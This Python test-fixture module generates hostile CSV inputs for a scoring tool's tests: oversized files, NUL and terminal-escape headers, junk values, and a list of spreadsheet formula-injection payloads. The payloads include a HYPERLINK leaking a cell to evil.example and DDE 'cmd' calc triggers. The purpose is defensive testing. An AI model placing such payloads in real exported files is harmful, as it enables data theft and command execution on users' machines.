"""Hostile inputs of issue 32 (hostile input, round 4), built on demand into a folder; nothing is committed.

1. A wide prediction file: a 4 MB solution CSV with 100,000 columns nobody asked for
   (:func:`wide_header`), and one whose header is honest but whose rows carry the extra
   fields (:func:`wide_rows`).
2. Rejection reasons that quoted the file: a solution whose header is 8 KB of NUL bytes
   (:func:`nul_header`), one whose header is 8 KB of long column names and terminal escapes
   (:func:`long_header`), and one with a problem on every row (:func:`many_problems`).
3. Formulas in CSV outputs: method names a spreadsheet runs (:data:`FORMULA_NAMES`), in a
   results file (:func:`formula_results`).
4. Junk in energy columns: eco2AI columns holding ``1e999``, ``-5``, ``inf``, ``nan``, ``lots``,
   ``=1+1`` and empty cells (:func:`junk_energy`).

Used by ``tests/test_hostile.py`` and ``benchmarks/hostile.py``, which load this file by its
path (``tests/data`` is not a package); ``python make_inputs.py FOLDER`` writes them all.
"""

from __future__ import annotations

import sys
from pathlib import Path

#: Test samples of every solution below: ids 1..16, alternately preliminary and final.
SAMPLES = 16

#: Method names that a spreadsheet opening a CSV would run (OWASP "CSV injection"), one per trigger.
FORMULA_NAMES = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=2+5",
    "\r=3+7",
)


def targets():
    """The targets every solution here is scored against (16 samples)."""
    from srdash.io.predictions import Targets

    return Targets.from_arrays([float(i) for i in range(SAMPLES)], ["preliminary", "final"] * (SAMPLES // 2))


def _team(folder: Path) -> Path:
    team = Path(folder) / "SUBMISSIONS" / "team"
    team.mkdir(parents=True, exist_ok=True)
    return team


def honest(folder: Path, *, extra: str = "") -> Path:
    """An honest solution CSV (``id,prediction``, optionally one more column ``extra``)."""
    path = _team(folder) / "honest.csv"
    head = "id,prediction" + (f",{extra}" if extra else "")
    rows = "".join(f"{i + 1},{i}.5" + (",x" if extra else "") + "\n" for i in range(SAMPLES))
    path.write_text(head + "\n" + rows)
    return path


def wide_header(folder: Path, *, columns: int = 100_000) -> Path:
    """A solution CSV with ``columns`` extra columns after ``id,prediction`` (4 MB at 100,000)."""
    path = _team(folder) / "wide.csv"
    header = "id,prediction," + ",".join(f"c{i}" for i in range(columns)) + "\n"
    rows = "".join(f"{i + 1},{i}.5" + ",0" * columns + "\n" for i in range(SAMPLES))
    path.write_text(header + rows)
    return path


def wide_rows(folder: Path, *, columns: int = 100_000) -> Path:
    """An honest header (``id,prediction``) over rows of ``columns`` extra fields each (3.2 MB at 100,000)."""
    path = _team(folder) / "wide-rows.csv"
    path.write_text("id,prediction\n" + "".join(f"{i + 1},{i}.5" + ",0" * columns + "\n" for i in range(SAMPLES)))
    return path


def nul_header(folder: Path, *, size: int = 8192) -> Path:
    """A solution whose header is ``size`` NUL bytes, then honest rows (a 32,844-character reason before)."""
    path = _team(folder) / "nul.csv"
    path.write_bytes(b"\x00" * size + b"\n" + "".join(f"{i + 1},{i}.5\n" for i in range(SAMPLES)).encode())
    return path


def long_header(folder: Path, *, names: int = 5) -> Path:
    """A solution whose header is ``names`` long names (2.6 KB at 5) holding terminal escapes, without ``id``."""
    path = _team(folder) / "long.csv"
    name = "\x1b[2J\x1b[31mSECRET-" + "y" * 500
    path.write_text(",".join([name] * names) + "\n" + ",".join(["1"] * names) + "\n")
    return path


def many_problems(folder: Path, *, rows: int = 2_000) -> Path:
    """A solution CSV with a problem of each kind on many rows (unknown, empty and repeated ids, junk values)."""
    path = _team(folder) / "many.csv"
    lines = ["id,prediction"]
    for i in range(rows):
        lines.append([f"unknown-{i}" + "z" * 200, "", "1", f"{i % SAMPLES + 1}"][i % 4] + ","
                     + ["lots" * 50, "nan", "inf", "1.5"][i % 4])
    path.write_text("\n".join(lines) + "\n")
    return path


def formula_results(folder: Path) -> Path:
    """A results CSV whose method names are :data:`FORMULA_NAMES` (and one honest method), two datasets."""
    import csv

    path = Path(folder) / "results.csv"
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("w", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["method", "dataset", "r2_test", "components", "property"])
        for i, name in enumerate(("Honest",) + FORMULA_NAMES):
            for j, dataset in enumerate(("d1", "d2")):
                writer.writerow([name, dataset, f"{0.9 - 0.1 * i - 0.01 * j:.2f}", 3 + i, f"{-0.5 * i:g}"])
    return path


#: Each junk cell of :func:`junk_energy` (data row, text) in ``power_consumption(kWh)``, and whether it is bad
#: (refused) or missing (not counted), by the rule of metric columns.
JUNK_ENERGY = ((1, "1e999", "bad"), (2, "-5", "bad"), (3, "inf", "bad"), (4, "nan", "missing"),
               (5, "lots", "bad"), (6, "=1+1", "bad"), (7, "", "missing"))


def junk_energy(folder: Path, *, honest_rows: int = 3) -> Path:
    """eco2AI's columns for a few runs, ``power_consumption(kWh)`` holding :data:`JUNK_ENERGY`, then honest rows."""
    path = Path(folder) / "energy.csv"
    path.parent.mkdir(parents=True, exist_ok=True)
    lines = ["algorithm,dataset,duration(s),power_consumption(kWh),CO2_emissions(kg)"]
    for row, text, _ in JUNK_ENERGY:
        lines.append(f"m{row % 2},d{row},{10 * row},{text},0.{row}")
    lines += [f"m{i % 2},h{i},{5 + i},0.25,0.1" for i in range(honest_rows)]
    path.write_text("\n".join(lines) + "\n")
    return path


INPUTS = {"wide.csv": wide_header, "wide-rows.csv": wide_rows, "nul.csv": nul_header, "long.csv": long_header,
          "many.csv": many_problems, "results.csv": formula_results, "energy.csv": junk_energy}

if __name__ == "__main__":
    target = Path(sys.argv[1])
    for name, make in INPUTS.items():
        print(name, make(target).stat().st_size, "bytes")
